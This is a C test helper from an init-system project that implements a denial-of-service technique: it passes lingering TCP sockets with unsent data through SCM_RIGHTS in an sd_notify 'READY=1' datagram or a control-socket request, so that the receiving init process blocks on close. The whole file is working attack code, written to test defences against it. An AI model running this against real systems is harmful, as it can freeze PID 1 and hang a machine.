/* notify-linger — the "freeze PID 1 through sd_notify" attack, for tests (tests/applets/init.test,
 * tests/vm/services.sh).
 *
 * usage: notify-linger [--stream] SOCKET N SECONDS
 *
 * Makes N TCP connections over 127.0.0.1 whose last close() would block: each has unsent data
 * (the peer is never accepted, never reads, its window is full) and SO_LINGER {1, 10^9 s}.
 * Each travels inside a carrier, a unix socket with the TCP socket queued in it (SCM_RIGHTS).
 * The N carriers go to SOCKET in one sd_notify datagram ("READY=1" + SCM_RIGHTS), then the
 * sender closes its copies: if the receiver has not let go of its copies by then, it holds the
 * last references, and its close of a carrier releases the TCP socket and lingers.
 *
 * Who lets go first is a race, so each attempt runs in a child: a close that returns at once
 * was not the last (the receiver now holds the last references: done); one that blocks was
 * (the receiver had already closed): that child is killed and the attempt repeated, up to 20
 * times. Then it prints "sent N" and keeps the peers alive for SECONDS (until then a last
 * close of those sockets blocks), and exits.
 *
 * --stream: SOCKET is a stream socket (keel init's control socket); the carriers come with the
 * request "status\n", and the sender closes its side afterwards.
 *
 * Exit 0 sent, 1 the datagram was refused or every attempt lost, 2 usage, 3 setup failed.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#define FDS_MAX 252 /* SCM_MAX_FD is 253; musl's sendmsg() takes 1024 bytes of control data */

static int send_fds(int fd, struct sockaddr_un *to, const char *msg, const int *fds, int n)
{
	union {
		char buf[CMSG_SPACE(sizeof(int) * FDS_MAX)];
		struct cmsghdr align;
	} ctl;
	memset(&ctl, 0, sizeof(ctl));
	struct iovec iov = {(void *)msg, strlen(msg)};
	struct msghdr mh = {.msg_name = to, .msg_namelen = to ? sizeof(*to) : 0, .msg_iov = &iov, .msg_iovlen = 1,
		.msg_control = ctl.buf, .msg_controllen = CMSG_SPACE(sizeof(int) * (size_t)n)};
	struct cmsghdr *c = CMSG_FIRSTHDR(&mh);
	c->cmsg_level = SOL_SOCKET;
	c->cmsg_type = SCM_RIGHTS;
	c->cmsg_len = CMSG_LEN(sizeof(int) * (size_t)n);
	memcpy(CMSG_DATA(c), fds, sizeof(int) * (size_t)n);
	return sendmsg(fd, &mh, MSG_NOSIGNAL) < 0 ? -1 : 0;
}

static int die(const char *what)
{
	fprintf(stderr, "notify-linger: %s: %s\n", what, strerror(errno));
	return 3;
}

/* A TCP connection to sin that lingers on its last close, inside a carrier: returns the carrier
 * (its queue holds the TCP socket), *other the carrier's peer; -1 on failure (said). */
static int carrier(const struct sockaddr_in *sin, int *other)
{
	struct linger lg = {1, 1000000000};
	char junk[4096];
	int tcp, pair[2], small = 4096;
	memset(junk, 'x', sizeof(junk));
	if ((tcp = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0)) < 0 ||
		setsockopt(tcp, SOL_SOCKET, SO_SNDBUF, &small, sizeof(small)) ||
		connect(tcp, (const struct sockaddr *)sin, sizeof(*sin)) || fcntl(tcp, F_SETFL, O_NONBLOCK))
		return die("connect to 127.0.0.1"), -1;
	size_t sent = 0; /* fill our send buffer and the peer's window: nothing more can leave */
	for (int idle = 0; idle < 4;) {
		ssize_t w = send(tcp, junk, sizeof(junk), MSG_NOSIGNAL);
		if (w > 0) {
			sent += (size_t)w;
			idle = 0;
		} else if (w < 0 && errno == EAGAIN) {
			idle++;
			usleep(2000);
		} else {
			return die("send"), -1;
		}
	}
	if (!sent || setsockopt(tcp, SOL_SOCKET, SO_LINGER, &lg, sizeof(lg)))
		return die("SO_LINGER"), -1;
	if (socketpair(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0, pair) || send_fds(pair[0], NULL, "x", &tcp, 1))
		return die("carrier"), -1;
	close(tcp); /* only the carrier's queue holds it now */
	*other = pair[0];
	return pair[1];
}

/* One attempt (in a child): build, send, write a byte to ready, close. Exit status as main's. */
static int attempt(const char *path, bool stream, const struct sockaddr_in *sin, int n, int ready)
{
	int carriers[FDS_MAX], other;
	for (int i = 0; i < n; i++) {
		if ((carriers[i] = carrier(sin, &other)) < 0)
			return 3;
		close(other);
	}
	struct sockaddr_un sa = {.sun_family = AF_UNIX};
	strcpy(sa.sun_path, path);
	int ufd = socket(AF_UNIX, (stream ? SOCK_STREAM : SOCK_DGRAM) | SOCK_CLOEXEC, 0);
	if (ufd < 0 || (stream && connect(ufd, (struct sockaddr *)&sa, sizeof(sa))) ||
		send_fds(ufd, stream ? NULL : &sa, stream ? "status\n" : "READY=1", carriers, n) ||
		(stream && shutdown(ufd, SHUT_WR))) {
		fprintf(stderr, "notify-linger: send to %s: %s\n", path, strerror(errno));
		return 1;
	}
	if (write(ready, "s", 1) != 1)
		return die("write");
	for (int i = 0; i < n; i++) /* blocks if this is the last reference */
		close(carriers[i]);
	return 0;
}

int main(int argc, char **argv)
{
	bool stream = argc > 1 && !strcmp(argv[1], "--stream");
	int a = 1 + stream, small = 4096; /* argv[a]: SOCKET, N, SECONDS */
	const char *path = argc > a ? argv[a++] : NULL;
	int n = argc == a + 2 ? atoi(argv[a]) : 0, secs = argc == a + 2 ? atoi(argv[a + 1]) : 0;
	if (!path || n < 1 || n > FDS_MAX || secs < 0 || strlen(path) >= sizeof(((struct sockaddr_un *)0)->sun_path)) {
		fprintf(stderr, "usage: notify-linger [--stream] SOCKET N(1-%d) SECONDS\n", FDS_MAX);
		return 2;
	}
	struct sockaddr_in sin = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	socklen_t slen = sizeof(sin);
	int lfd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (lfd < 0 || setsockopt(lfd, SOL_SOCKET, SO_RCVBUF, &small, sizeof(small)) ||
		bind(lfd, (struct sockaddr *)&sin, sizeof(sin)) || listen(lfd, 4096) ||
		getsockname(lfd, (struct sockaddr *)&sin, &slen))
		return die("listen on 127.0.0.1");
	for (int round = 1; round <= 20; round++) {
		int p[2], status;
		char c;
		if (pipe(p))
			return die("pipe");
		pid_t pid = fork();
		if (pid < 0)
			return die("fork");
		if (pid == 0) {
			close(p[0]);
			_exit(attempt(path, stream, &sin, n, p[1]));
		}
		close(p[1]);
		ssize_t r = read(p[0], &c, 1); /* sent (1), or the child failed before (0) */
		close(p[0]);
		struct pollfd none = {-1, 0, 0};
		for (int t = 0; t < 50 && waitpid(pid, &status, WNOHANG) == 0; t++)
			poll(&none, 0, 10);
		if (r == 1 && waitpid(pid, &status, WNOHANG) == 0) { /* lost: its close lingers */
			kill(pid, SIGKILL);
			waitpid(pid, &status, 0);
			continue;
		}
		if (r != 1 || !WIFEXITED(status) || WEXITSTATUS(status))
			return WIFEXITED(status) && WEXITSTATUS(status) ? WEXITSTATUS(status) : 3;
		printf("sent %d\n", n);
		fflush(stdout);
		sleep((unsigned)secs);
		return 0;
	}
	fprintf(stderr, "notify-linger: the receiver let go first in every attempt\n");
	return 1;
}
